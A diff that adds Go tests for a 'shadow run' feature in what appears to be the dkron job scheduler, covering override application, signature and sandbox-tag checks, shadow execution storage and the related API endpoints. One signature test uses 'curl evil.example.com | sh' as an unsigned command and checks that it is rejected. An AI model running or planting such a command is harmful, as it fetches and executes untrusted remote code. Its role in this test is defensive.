@@ -0,0 +1,194 @@
+package dkron
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"os"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestShadowRun_apply(t *testing.T) {
+	s := &ShadowRun{
+		Label:          "new-command",
+		Tags:           map[string]string{"env": "staging"},
+		ExecutorConfig: map[string]string{"command": "/bin/true"},
+	}
+	require.NoError(t, s.Validate())
+
+	job := scaffoldJob()
+	job.Tags = map[string]string{"env": "prod"}
+	job.ExecutorConfig["shell"] = "true"
+	job.Retries = 2
+	job.DependentJobs = []string{"child"}
+
+	shadow := s.apply(job)
+	assert.Equal(t, map[string]string{"env": "staging"}, shadow.Tags)
+	assert.Equal(t, "/bin/true", shadow.ExecutorConfig["command"])
+	assert.Equal(t, "true", shadow.ExecutorConfig["shell"])
+	assert.Zero(t, shadow.Retries)
+	assert.Empty(t, shadow.DependentJobs)
+
+	// The job is left as is
+	assert.Equal(t, "/bin/false", job.ExecutorConfig["command"])
+	assert.Equal(t, map[string]string{"env": "prod"}, job.Tags)
+
+	assert.Equal(t, ErrShadowLabel, (&ShadowRun{Label: "a:b", Tags: s.Tags}).Validate())
+	assert.Equal(t, ErrShadowTags, (&ShadowRun{Label: "new-command"}).Validate())
+}
+
+func TestAgent_checkShadowRun(t *testing.T) {
+	pub, priv, err := ed25519.GenerateKey(rand.Reader)
+	require.NoError(t, err)
+	a := &Agent{
+		config:      &Config{RequireSignedJobs: true, ShadowTags: []string{"env=staging", "env=sandbox"}},
+		signingKeys: map[string]ed25519.PublicKey{"release": pub},
+	}
+
+	job := scaffoldJob()
+	SignJob(job, priv)
+
+	// The signed spec can run in the sandbox nodes
+	s := &ShadowRun{Label: "staging", Tags: map[string]string{"env": "staging:1"}}
+	assert.NoError(t, a.checkShadowRun(job, s))
+
+	s.Tags = map[string]string{"env": "staging", "role": "db"}
+	err = a.checkShadowRun(job, s)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), ErrShadowSandbox.Error())
+	a.config.ShadowTags = nil
+	s.Tags = map[string]string{"env": "staging"}
+	err = a.checkShadowRun(job, s)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), ErrShadowSandbox.Error())
+	a.config.ShadowTags = []string{"env=staging"}
+
+	// Changes to the executor config must be signed
+	s.ExecutorConfig = map[string]string{"command": "curl evil.example.com | sh"}
+	assert.Equal(t, ErrUnsignedJob, a.checkShadowRun(job, s))
+	s.Signature = job.Signature
+	assert.Equal(t, ErrJobSignature, a.checkShadowRun(job, s))
+
+	copy := s.apply(job)
+	SignJob(copy, priv)
+	s.Signature = copy.Signature
+	assert.NoError(t, a.checkShadowRun(job, s))
+}
+
+func TestStore_ShadowExecutions(t *testing.T) {
+	s := setupStore(t)
+	defer s.Shutdown()
+	s.maxExecutions = 2
+
+	job := scaffoldJob()
+	require.NoError(t, s.SetJob(job, false))
+
+	now := time.Now()
+	for i := 0; i < 3; i++ {
+		_, err := s.SetExecution(&Execution{
+			JobName:    job.Name,
+			StartedAt:  now.Add(time.Duration(i) * time.Second),
+			FinishedAt: now.Add(time.Duration(i) * time.Second),
+			Success:    true,
+			NodeName:   "staging-1",
+			Shadow:     "new-command",
+		})
+		require.NoError(t, err)
+	}
+	_, err := s.SetExecution(&Execution{
+		JobName:   job.Name,
+		StartedAt: now,
+		NodeName:  "staging-1",
+		Shadow:    "other",
+	})
+	require.NoError(t, err)
+
+	// Shadow executions stay out of the history of the job
+	_, err = s.GetExecutions(job.Name)
+	assert.Error(t, err)
+	assert.Zero(t, loadJob(t, s, job.Name).SuccessCount)
+
+	executions, err := s.GetShadowExecutions(job.Name, "new-command")
+	require.NoError(t, err)
+	require.Len(t, executions, 2)
+	assert.Equal(t, now.Add(time.Second).UnixNano(), executions[0].StartedAt.UnixNano())
+	assert.Equal(t, "new-command", executions[0].Shadow)
+
+	stored, err := s.GetShadowExecution(job.Name, "new-command", executions[1].Key())
+	require.NoError(t, err)
+	assert.Equal(t, executions[1].Id, stored.Id)
+
+	executions, err = s.GetShadowExecutions(job.Name, "")
+	require.NoError(t, err)
+	assert.Len(t, executions, 3)
+
+	// Deleting the job deletes its shadow executions
+	_, err = s.DeleteJob(job.Name)
+	require.NoError(t, err)
+	executions, err = s.GetShadowExecutions(job.Name, "")
+	require.NoError(t, err)
+	assert.Empty(t, executions)
+}
+
+func TestAPIJobShadowRun(t *testing.T) {
+	port := "8135"
+	baseURL := fmt.Sprintf("http://localhost:%s/v1", port)
+	dir, a := setupAPITest(t, port)
+	defer os.RemoveAll(dir)
+	defer a.Stop()
+
+	a.config.ShadowTags = []string{"env=staging"}
+
+	job := scaffoldJob()
+	require.NoError(t, a.Store.SetJob(job, false))
+
+	resp, err := http.Post(baseURL+"/jobs/test/shadow", "application/json", bytes.NewBufferString(`{"label": "new-command"}`))
+	require.NoError(t, err)
+	resp.Body.Close()
+	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
+
+	// Only the sandbox nodes can be targeted
+	body := `{"label": "new-command", "tags": {"env": "prod"}}`
+	resp, err = http.Post(baseURL+"/jobs/test/shadow", "application/json", bytes.NewBufferString(body))
+	require.NoError(t, err)
+	resp.Body.Close()
+	assert.Equal(t, http.StatusForbidden, resp.StatusCode)
+
+	// No node has the tags of the shadow run
+	body = `{"label": "new-command", "tags": {"env": "staging"}, "executor_config": {"command": "/bin/true"}}`
+	resp, err = http.Post(baseURL+"/jobs/test/shadow", "application/json", bytes.NewBufferString(body))
+	require.NoError(t, err)
+	resp.Body.Close()
+	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+
+	_, err = a.Store.SetExecution(&Execution{
+		JobName:    job.Name,
+		StartedAt:  time.Now(),
+		FinishedAt: time.Now(),
+		Success:    true,
+		NodeName:   "staging-1",
+		Shadow:     "new-command",
+	})
+	require.NoError(t, err)
+
+	resp, err = http.Get(baseURL + "/jobs/test/shadow?label=new-command")
+	require.NoError(t, err)
+	var executions []*Execution
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&executions))
+	resp.Body.Close()
+	require.Len(t, executions, 1)
+	assert.Equal(t, "staging-1", executions[0].NodeName)
+
+	resp, err = http.Get(baseURL + "/jobs/test/shadow?label=other")
+	require.NoError(t, err)
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&executions))
+	resp.Body.Close()
+	assert.Empty(t, executions)
+}